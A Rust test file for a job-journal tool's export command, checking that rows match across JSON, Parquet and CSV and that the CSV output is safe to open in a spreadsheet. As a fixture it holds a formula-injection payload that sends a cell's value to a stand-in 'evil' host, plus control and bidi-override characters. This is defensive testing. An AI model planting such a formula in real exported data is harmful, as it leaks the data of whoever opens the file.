//! `inquest export`: the same rows in every form, from plain and compressed stores, and nothing in
//! them that a spreadsheet would run.

mod support;

use std::collections::BTreeMap;
use std::fs;
use std::process::Stdio;

use inquest_journal::{Note, StepId};
use parquet::file::reader::{FileReader, SerializedFileReader};
use parquet::record::Field;
use serde_json::{Map, Value, json};

use support::{End, Job, Lab};

const FORMULA: &str = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";

/// Ten days before the lab's epoch: what is compressed must be in the past.
const START: i64 = -864_000;
const DAY: i64 = 86_400;

fn lab() -> Lab {
    let array = |id, index, end| Job { array: Some((40, index)), name: "sweep".into(), ..Job::new(id, end) };
    let jobs = [
        Job { name: FORMULA.into(), start: START, run: Some("r1"), ..Job::new(7, End::Code(1)) },
        Job {
            name: "a\u{1b}[2J\n\"b\",c;\u{202e}d".into(),
            node: "n2",
            start: START + 5,
            run: Some("r1"),
            ..Job::new(8, End::Code(0))
        },
        Job { start: START + DAY, ..Job::new(9, End::Signal(11)) },
        Job { start: START + DAY, ..array(41, 1, End::Oom(64)) },
        Job { start: START + DAY, node: "n2", ..array(42, 2, End::Open) },
    ];
    let lab = Lab::new();
    jobs.iter().for_each(|job| lab.job(job));
    let note = Note {
        kind: Some("progress".into()),
        text: Some("-1+1".into()),
        percent: Some(12.5),
        ..Note::default()
    };
    lab.event(("n1", "0badc0de", 999), START + 3, Some((7, StepId::Batch)), note);
    lab.collect();
    lab
}

/// Rows of JSON lines.
fn rows(text: &str) -> Vec<Value> {
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn export(lab: &Lab, arguments: &[&str]) -> String {
    let (code, out, err) = lab.run(&[&["export"], arguments].concat());
    assert_eq!((code, err.as_str()), (0, ""), "{arguments:?}");
    out
}

#[test]
fn what_was_left_out_is_no_success() {
    let lab = lab();
    let events = lab.events_of("r1");
    let text = fs::read_to_string(&events).unwrap();
    fs::write(&events, text.replacen("{\"timestamp\"", "\"timestamp\"", 1)).unwrap();
    let (code, out, err) = lab.run(&["export", "events"]);
    assert!(code == 3 && err.contains("1 line is damaged"), "{code}: {err}");
    assert!(out.lines().count() > 10, "{out}");
}

#[test]
fn an_event_is_one_row_with_all_its_fields() {
    let lab = lab();
    let rows = rows(&export(&lab, &["events"]));
    let mut by_id: BTreeMap<(String, u64), &Value> = BTreeMap::new();
    for row in &rows {
        let id = (row["stream"].as_str().unwrap().to_owned(), row["seq"].as_u64().unwrap());
        assert!(by_id.insert(id, row).is_none(), "twice: {row}");
        assert!(row.get("more").is_none(), "a field without a column: {row}");
    }
    let mut lines = 0;
    let user = Value::from(rows[0]["user"].as_str().unwrap());
    for run in ["r1", "job-9", "array-40"] {
        for line in fs::read_to_string(lab.events_of(run)).unwrap().lines() {
            let mut stored: Value = serde_json::from_str(line).unwrap();
            let stored = stored.as_object_mut().unwrap();
            let row =
                by_id[&(stored["stream"].as_str().unwrap().to_owned(), stored["seq"].as_u64().unwrap())];
            assert_eq!((&row["user"], &row["timestamp"]), (&user, &stored["utc"]));
            stored.remove("utc");
            stored.remove("timestamp");
            for (name, value) in stored {
                match (name.as_str(), value) {
                    ("memory", Value::Object(parts)) => {
                        for (part, value) in parts {
                            assert_eq!(&row[format!("memory_{part}")], value, "{line}");
                        }
                    }
                    // Nothing is lost by leaving out what is empty.
                    (_, Value::Null) => assert_eq!(row.get(name), None, "{line}"),
                    (_, value) => assert_eq!(row.get(name.as_str()), Some(&*value), "{name}: {line}"),
                }
            }
            lines += 1;
        }
    }
    assert_eq!(lines, rows.len());
}

/// The rows of a Parquet file, as JSON lines would have them.
fn parquet_rows(path: &std::path::Path) -> Vec<Value> {
    let file = SerializedFileReader::new(fs::File::open(path).unwrap()).unwrap();
    let row = |row: parquet::record::Row| {
        let mut map = Map::new();
        for (name, field) in row.get_column_iter() {
            let value = match field {
                Field::Null => continue,
                Field::Bool(b) => json!(b),
                Field::Long(n) => json!(n),
                Field::ULong(n) => json!(n),
                Field::Double(n) => json!(n),
                Field::Str(text) => json!(text),
                Field::TimestampMicros(us) => json!(inquest_journal::Timestamp(*us)),
                other => panic!("{name} is {other:?}"),
            };
            map.insert(name.clone(), value);
        }
        Value::Object(map)
    };
    file.get_row_iter(None).unwrap().map(|r| row(r.unwrap())).collect()
}

#[test]
fn every_form_has_the_same_rows() {
    let lab = lab();
    for table in ["events", "members", "runs"] {
        let mut lines = rows(&export(&lab, &[table]));
        assert!(lines.len() >= 3, "{table}");
        let file = lab.path().join(format!("{table}.parquet"));
        assert_eq!(export(&lab, &[table, "-o", file.to_str().unwrap()]), "");
        let parquet = parquet_rows(&file);
        let csv = export(&lab, &[table, "--as", "csv", "--raw"]);
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let names: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
        let csv: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!((parquet.len(), csv.len()), (lines.len(), lines.len()), "{table}");
        for ((line, parquet), csv) in lines.iter_mut().zip(&parquet).zip(&csv) {
            // What is JSON in JSON lines is text elsewhere.
            for value in line.as_object_mut().unwrap().values_mut().filter(|v| v.is_array() || v.is_object())
            {
                *value = json!(value.to_string());
            }
            let inner = |v: &Value| v.as_str().and_then(|t| serde_json::from_str::<Value>(t).ok());
            for (name, text) in names.iter().zip(csv) {
                let (line, parquet) = (line.get(name), parquet.get(name));
                let same = match (line, parquet) {
                    (Some(a), Some(b)) => a == b || inner(a).is_some_and(|i| Some(i) == inner(b)),
                    (a, b) => a == b,
                };
                assert!(same, "{table}.{name}: {line:?} and {parquet:?}");
                match parquet {
                    None => assert_eq!(text, "", "{table}.{name}"),
                    Some(Value::String(want)) => assert_eq!(text, want, "{table}.{name}"),
                    Some(want) => assert_eq!(text, want.to_string(), "{table}.{name}"),
                }
            }
            assert!(parquet.as_object().unwrap().keys().all(|k| names.contains(k)), "{table}");
        }
        assert!(!lab.path().join(format!("{table}.parquet.part")).exists());
    }
}

#[test]
fn a_spreadsheet_finds_no_formula_and_no_control_character() {
    let lab = lab();
    for table in ["events", "members", "runs"] {
        let csv = export(&lab, &[table, "--as", "csv"]);
        let odd = |c: char| c.is_control() && c != '\n' || c == '\u{202e}';
        assert!(!csv.contains(odd), "{table}");
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        for cell in reader.records().flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()) {
            let risky = cell.starts_with(['=', '+', '-', '@']) && cell.parse::<f64>().is_err();
            assert!(!risky, "{table}: {cell}");
        }
    }
    let events = export(&lab, &["events", "--as", "csv"]);
    assert!(events.contains("\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\""), "{events}");
    assert!(events.contains(",\"'-1+1\","), "{events}");
    assert!(export(&lab, &["events", "--as", "csv", "--raw"]).contains(",-1+1,"));
}

#[test]
fn a_compressed_store_gives_the_same_rows() {
    let lab = lab();
    let before: Vec<String> = ["events", "members", "runs"].map(|t| export(&lab, &[t])).into();
    let (code, _, err) = lab.run(&["gc", "--compress-hours", "0"]);
    assert_eq!(code, 0, "{err}");
    assert!(!lab.events_of("r1").exists() && lab.events_of("r1").with_extension("jsonl.zst").exists());
    let after: Vec<String> = ["events", "members", "runs"].map(|t| export(&lab, &[t])).into();
    assert_eq!(before, after);
}

#[test]
fn only_what_was_asked_for() {
    let lab = lab();
    let count = |arguments: &[&str]| rows(&export(&lab, arguments)).len();
    let all = count(&["events"]);
    let (early, late) = (count(&["events", "-E", "2026-11-12"]), count(&["events", "-S", "2026-11-12"]));
    assert!(early > 0 && late > 0 && early + late == all, "{early} + {late} = {all}");
    assert_eq!(count(&["runs", "-S", "2026-11-12T13:00"]), 2);
    assert_eq!(count(&["members", "-E", "2026-11-11T14:00:02Z"]), 1);
    assert_eq!(count(&["runs", "job-9"]), 1);
    assert_eq!(count(&["members", "40_[1-2]"]), 2);
    assert_eq!(count(&["members", "-u", "nobody"]), 0);
    assert_eq!(count(&["events", "-S", "now-5000days", "-E", "now+1hour", "-M", "other"]), 0);
    let killed = rows(&export(&lab, &["events", "40_1", "-t", "oom_kill,task_exited"]));
    let types: Vec<&Value> = killed.iter().map(|r| &r["event_type"]).collect();
    assert_eq!(types, ["oom_kill", "task_exited"]);
    assert!(killed.iter().all(|r| r["job_id"] == "41"));
    let member = &rows(&export(&lab, &["members", "41"]))[0];
    assert_eq!(
        (&member["class"], &member["died_node"], &member["signal"]),
        (&json!("oom"), &json!("n1"), &json!(9))
    );
}

#[test]
fn wrong_input_is_refused_and_leaves_no_file() {
    let lab = lab();
    let file = lab.path().join("x.parquet");
    let out = file.to_str().unwrap();
    for (arguments, code, parts) in [
        (&["events", "999", "-o", out][..], 3, &["999", "inquest runs"][..]),
        (&["events", "7_[", "-o", out], 2, &["7_[", "write 123"]),
        (&["members", "-t", "oom_kill", "-o", out], 2, &["only events have types"]),
        (&["events", "-t", "oom", "-o", out], 2, &["'oom'", "oom_kill"]),
        (&["events", "-S", "yesterday", "-o", out], 2, &["'yesterday'", "now-2days"]),
        (&["events", "--raw"], 2, &["--raw", "CSV"]),
        (&["runs", "-o", "/no/such/dir/x.csv"], 3, &["/no/such/dir/x.csv", "name another file"]),
        (&["runs", "--store", "/no/such/store", "-o", out], 3, &["/no/such/store"]),
    ] {
        lab.refuses(&[&["export"], arguments].concat(), code, parts);
        assert!(!file.exists());
    }
    // A reader that has seen enough is no error.
    let mut child = lab.command(&["export", "events"]).stdout(Stdio::piped()).spawn().unwrap();
    drop(child.stdout.take());
    assert!(child.wait().unwrap().success());
}

#[test]
fn every_column_is_in_the_manual() {
    let lab = lab();
    let dir = lab.path().join("man");
    assert_eq!(lab.run(&["man", dir.to_str().unwrap()]).0, 0);
    let page = fs::read_to_string(dir.join("inquest-tables.5")).unwrap().replace("\\-", "-");
    for table in ["events", "members", "runs"] {
        let csv = export(&lab, &[table, "--as", "csv"]);
        for name in csv.lines().next().unwrap().replace('"', "").split(',') {
            assert!(page.contains(&format!("\\fB{name}\\fR (")), "{table}.{name}");
        }
    }
    assert!(dir.join("inquest-export.1").exists());
}
